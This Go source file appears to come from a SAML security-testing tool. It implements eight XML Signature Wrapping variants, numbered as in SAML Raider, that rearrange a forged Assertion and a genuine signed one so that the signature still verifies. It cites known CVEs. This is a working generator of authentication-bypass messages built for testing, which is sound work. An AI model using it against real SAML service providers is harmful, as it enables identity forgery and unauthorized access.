package fault

import (
	"fmt"
	"slices"

	"github.com/beevik/etree"
)

func wrappingFaults() []Fault {
	return []Fault{
		{Name: "signature-wrapped", Summary: "a forged Assertion is read while the signature covers a genuine one elsewhere",
			Refs: []string{"On Breaking SAML, USENIX Security 2012", "CVE-2022-41912", "CVE-2024-8698", "CVE-2024-45409", "CVE-2025-47949", "The Fragile Lock, 2025"},
			Params: append([]Param{
				{Name: "variant", Kind: Choice, Required: true, Example: "3", Choices: wrappingNames(),
					Doc: "where forged and genuine stand; 1 to 8 as SAML Raider numbers them"},
				orderParam()}, forgedParams()...),
			Document: wrap},
	}
}

// wrapping arranges a forged element and the genuine, signed one. What is
// wrapped is the Response if that is signed, with all that it holds, or else
// the Assertion; the signature that the attack rests on stays good.
type wrapping struct {
	name string
	// inside tells that the Assertion is what is wrapped, whatever is signed:
	// beside it there is no place in a signed Response, and around one, variants
	// 5 and 6 are 2 and 1.
	inside  bool
	arrange func(*scene)
	finish  func(*scene) error // nil, or what comes after the order
}

// scene is a message while it is wrapped. The forged element is the root, or
// stands in the root where the genuine Assertion stood; the genuine one and its
// Signature stand nowhere until they are arranged.
type scene struct {
	m                                *Message
	root, genuine, forged, signature *etree.Element
	order                            string
}

func wrappings() []wrapping {
	return slices.Concat(classicWrappings(), laterWrappings(), pollutedWrappings())
}

// classicWrappings are those of the paper, as SAML Raider numbers them.
func classicWrappings() []wrapping {
	return []wrapping{
		{name: "1", arrange: func(s *scene) {
			placeSignature(s.root, s.signature)
			s.signature.AddChild(s.genuine)
		}},
		{name: "2", arrange: func(s *scene) {
			placeSignature(s.root, s.signature)
			s.root.InsertChildAt(s.signature.Index(), s.genuine)
		}},
		{name: "3", inside: true, arrange: (*scene).keep},
		{name: "4", arrange: func(s *scene) {
			placeSignature(s.genuine, s.signature)
			s.forged.AddChild(s.genuine)
		}},
		{name: "5", inside: true, arrange: func(s *scene) {
			placeSignature(s.forged, s.signature)
			s.root.AddChild(s.genuine)
		}},
		{name: "6", inside: true, arrange: func(s *scene) {
			placeSignature(s.forged, s.signature)
			s.signature.AddChild(s.genuine)
		}},
		{name: "7", inside: true, arrange: func(s *scene) {
			s.keep()
			s.m.extensionsOf().AddChild(s.forged)
		}},
		{name: "8", arrange: func(s *scene) {
			placeSignature(s.forged, s.signature)
			object := sibling(s.signature, "Object")
			s.signature.AddChild(object)
			object.AddChild(s.genuine)
		}},
	}
}

func wrappingNames() []string {
	var names []string
	for _, w := range wrappings() {
		names = append(names, w.name)
	}
	return names
}

func wrap(m *Message, a Args) error {
	all := wrappings()
	w := all[slices.IndexFunc(all, func(w wrapping) bool { return w.name == a.String("variant") })]
	s, err := m.scene(w, a)
	if err != nil {
		return fmt.Errorf("wrapping %s: %w", w.name, err)
	}
	w.arrange(s)
	arrangeInOrder(s.genuine, s.forged, s.order)
	keepNamespace(s.genuine)
	m.Response, m.Assertion = s.root, s.root.SelectElement("Assertion")
	if w.finish == nil {
		return nil
	}
	return w.finish(s)
}

// scene puts a forged element in the place of the genuine one.
func (m *Message) scene(w wrapping, a Args) (*scene, error) {
	s := &scene{m: m, root: m.Response, genuine: m.Response, order: a.String("order")}
	if w.inside || m.Response.SelectElement("Signature") == nil {
		var err error
		if s.genuine, err = m.signedAssertion(); err != nil {
			return nil, err
		}
	}
	var err error
	if s.forged, err = m.forge(s.genuine, a); err != nil {
		return nil, err
	}
	s.signature = s.genuine.SelectElement("Signature")
	s.signature.Remove()
	if s.genuine == m.Response {
		s.root, m.Response = s.forged, s.forged
		return s, nil
	}
	insertAfter(s.genuine, s.forged)
	s.genuine.Remove()
	return s, nil
}

// keep signs the genuine element as it was, and lets it stand after the forged
// one, or in its Extensions where that is the root.
func (s *scene) keep() {
	placeSignature(s.genuine, s.signature)
	if s.root == s.forged {
		s.m.extensionsOf().AddChild(s.genuine)
		return
	}
	insertAfter(s.forged, s.genuine)
}

// forgedAssertion is the forged element or the Assertion in it.
func (s *scene) forgedAssertion() *etree.Element {
	if s.root == s.forged {
		return s.forged.SelectElement("Assertion")
	}
	return s.forged
}

// keepNamespace shields an element that nobody may change from a default
// namespace around it, which an inclusive canonical form would take in.
func keepNamespace(el *etree.Element) {
	for above := el.Parent(); above != nil; above = above.Parent() {
		if attr := above.SelectAttr("xmlns"); attr != nil {
			el.CreateAttr("xmlns", "")
			return
		}
	}
}

// placeSignature puts a Signature where the schema wants it.
func placeSignature(el, signature *etree.Element) {
	if issuer := el.SelectElement("Issuer"); issuer != nil {
		insertAfter(issuer, signature)
		return
	}
	el.InsertChildAt(0, signature)
}

func statusIndex(m *Message) int {
	if status := m.Response.SelectElement("Status"); status != nil {
		return status.Index()
	}
	return 0
}
